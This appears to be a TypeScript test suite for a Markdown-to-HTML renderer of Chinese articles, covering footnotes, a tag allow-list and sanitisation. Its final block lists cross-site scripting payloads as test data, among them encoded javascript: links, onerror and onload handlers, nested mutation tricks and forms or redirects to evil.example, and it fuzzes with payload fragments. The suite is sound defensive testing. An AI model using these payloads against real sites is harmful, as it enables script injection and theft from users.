import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hanPhrase } from '../testing/han-arbitraries';
import { elementsNamed, elementsOf, visibleText } from '../testing/html';
import { markdownToHtml } from './read';

const html = (markdown: string) => markdownToHtml(markdown).html;
const tags = (markdown: string) => elementsOf(html(markdown)).map(({ tag }) => tag);

describe('HTML in an article', () => {
  it.each(['<br>', '<br/>', '<div>', '</article>', '<article class="x">', '<p>', '<center>', '<hr>'])(
    'does not absorb the heading and the definitions directly below %s',
    (tag) => {
      const { html: rendered, citations } = markdownToHtml(
        `正文[^1]。\n${tag}\n## 引用\n[^1]: 甲\n[^2]: 乙\n`,
      );
      expect(citations.heading).toBe('引用');
      expect(citations.list.map(({ label, text, uses }) => [label, text, uses])).toEqual([
        ['1', '甲', 1],
        ['2', '乙', 0],
      ]);
      expect(visibleText(rendered).trim()).toBe('正文[1]。');
    },
  );

  it('does not absorb the Markdown below a tag', () => {
    expect(tags('<div>\n**粗**与_斜_\n\n- 项\n</div>')).toEqual(['div', 'strong', 'em', 'ul', 'li']);
    expect(
      elementsNamed(html('<details><summary>展开</summary>\n\n**内**\n\n</details>'), 'strong')[0]?.within,
    ).toContain('details');
  });

  it('supports harmless tags: line breaks, quotes, links, small text', () => {
    expect(tags('一<br>二')).toContain('br');
    expect(tags('<blockquote>引</blockquote>')).toContain('blockquote');
    expect(tags('H<sub>2</sub>O 与 10<sup>3</sup>')).toEqual(expect.arrayContaining(['sub', 'sup']));
    const [link] = elementsNamed(html('<a href="https://example.com/x" onclick="y()" style="z">链</a>'), 'a');
    expect(link).toMatchObject({ text: '链', attributes: { href: 'https://example.com/x' } });
    expect(Object.keys(link?.attributes ?? {}).sort()).toEqual(['href', 'rel']);
  });

  it.each([
    '<think>想一想</think>答',
    '<eos>',
    '<3',
    '1 < 2 与 3 > 2',
    '<|endoftext|>',
    '<USER>：',
    'List<String>',
    '<图片>',
  ])('that is not a known tag stays as text: %j', (text) => {
    expect(visibleText(html(`文${text}字`))).toBe(`文${text}字`);
  });

  it.each([
    '与 Promise<object> 类型',
    '先改<title>与<meta>，再写摘要',
    '输出<svg>代码来画图',
    '插入<script>标签即可',
    '把<style>写在前面',
    '序列以<s>开头，<b>与<code>亦然',
    '<search>查询词</search>与<output>结果</output>',
    '一个<input>框',
    '如果a<b and c>d，则',
  ])('that a sentence mentions stays as text and affects nothing else: %j', (sentence) => {
    const rendered = html(`${sentence}[^1]。\n\n第二段。\n\n第三段。\n\n[^1]: 甲`);
    expect(visibleText(rendered).replace(/\s+/g, '')).toBe(
      `${sentence}[1]。第二段。第三段。`.replace(/\s+/g, ''),
    );
    expect(elementsNamed(rendered, 's').concat(elementsNamed(rendered, 'b'))).toEqual([]);
  });

  it('that is never closed and has attributes is removed alone', () => {
    expect(visibleText(html('前<font color="red">红<script src="x">后\n\n再后')).replace(/\s+/g, '')).toBe(
      '前红后再后',
    );
    expect(tags('<font color="red">红</font> <s>删</s>')).toEqual(['p', 's']);
  });

  it('that is not a known tag stays as text on its own line and absorbs nothing', () => {
    const rendered = html('<think>\n想**一**想\n</think>\n\n答');
    expect(visibleText(rendered).replace(/\s+/g, '')).toBe('<think>想一想</think>答');
    expect(elementsNamed(rendered, 'strong')).toHaveLength(1);
  });

  it('in code stays as text', () => {
    expect(elementsNamed(html('`<script>alert(1)</script>`'), 'code')[0]?.text).toBe(
      '<script>alert(1)</script>',
    );
    expect(elementsNamed(html('```html\n<br>\n```'), 'code')[0]?.text).toBe('<br>\n');
  });

  it('in comments is removed', () => {
    expect(visibleText(html('一<!-- 注 -->二\n\n<!--\n三\n\n四\n-->\n\n五')).replace(/\s+/g, '')).toBe(
      '一二五',
    );
  });

  it.each([
    '<script>alert(1)</script>',
    '<style>body{display:none}</style>',
    '<iframe src="https://example.com">里</iframe>',
    '<svg><script>alert(1)</script></svg>',
    '<template><p>里</p></template>',
    '<noscript>里</noscript>',
    '<textarea>里</textarea>',
    '<object data="x">里</object>',
  ])('that is active is removed with its content: %j', (danger) => {
    for (const markdown of [`前\n\n${danger}\n\n后`, `前${danger}后`])
      expect(visibleText(html(markdown)).replace(/\s+/g, '')).toBe('前后');
  });
});

it('a script is removed with all its lines, including blank ones', () => {
  const rendered = html('前\n\n<script>\nalert(1)\n\nalert(2)\n</script>\n\n后');
  expect(visibleText(rendered).replace(/\s+/g, '')).toBe('前后');
});

/**
 * Hand-written list of everything allowed in article HTML: nothing that runs, loads a document, submits or
 * restyles.
 */
const harmless = new Set(
  `a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5
  h6 hr i img ins kbd li mark ol p picture pre q rp rt ruby s samp section small source span strike strong sub
  summary sup table tbody td tfoot th thead tr tt u ul var wbr`.split(/\s+/),
);

function expectHarmless(rendered: string) {
  for (const { tag, attributes } of elementsOf(rendered)) {
    expect(harmless).toContain(tag);
    for (const [name, value] of Object.entries(attributes)) {
      expect(name).not.toMatch(/^on|^style$|^srcdoc$|^form|^xlink|^srcset$|^ping$/i);
      if (!['href', 'src', 'cite', 'longdesc', 'action'].includes(name)) continue;
      // The platform's own URL parsing, including its handling of white space and control characters.
      if (!URL.canParse(value, 'https://zhiwen.test/')) continue;
      expect(['http:', 'https:', 'mailto:']).toContain(new URL(value, 'https://zhiwen.test/').protocol);
    }
  }
}

describe('no article can ever', () => {
  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#x09;script:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x)',
    '![x](javascript:alert(1))',
    '<javascript:alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<p onclick="alert(1)" style="position:fixed">x</p>',
    '<details open ontoggle=alert(1)>x</details>',
    '<svg/onload=alert(1)>',
    '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
    '<form action="https://evil.example"><input name=q><button>x</button></form>',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href=//evil.example>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
    '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
    '# <img src=x onerror=alert(1)>',
  ])('run a script or navigate by itself: %j', (markdown) => {
    expectHarmless(html(markdown));
    expectHarmless(html(`正文\n${markdown}\n正文`));
  });

  it('do so with any mixture of tags, attributes, Markdown and text', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...[
          '<script>',
          '</script>',
          '<img src=x onerror=alert(1)',
          '>',
          '/>',
          '<svg',
          ' onload=alert(1)',
          '<a href="',
          'javascript:',
          '"',
        ],
        ...[
          "'",
          '<style>',
          '</style>',
          '<!--',
          '-->',
          '<![CDATA[',
          ']]>',
          '<math>',
          '<mtext>',
          '<template>',
          '<table>',
          '<td>',
          '<p',
        ],
        ...[
          '</p>',
          '<br>',
          '&lt;',
          '&#x3c;',
          '&Tab;',
          '\0',
          '\n',
          '\n\n',
          '    ',
          '`',
          '```',
          '**',
          '_',
          '[',
          '](',
          ')',
          '![',
          '|',
          '> ',
        ],
        ...[
          '# ',
          '- ',
          '<iframe srcdoc="',
          '<textarea>',
          '<title>',
          '<form>',
          '<sup data-citation="1" data-use="1">',
          '[^1]',
          '\n[^1]: ',
        ],
        ...[
          'data:text/html,',
          '//evil.example',
          ' style=',
          ' id=x',
          ' class=y',
          '<noscript>',
          '</noscript>',
          '\\',
        ],
      ),
      hanPhrase({ maxLength: 2 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        expectHarmless(html(pieces.join('')));
      }),
      { numRuns: 1000 },
    );
  });
});
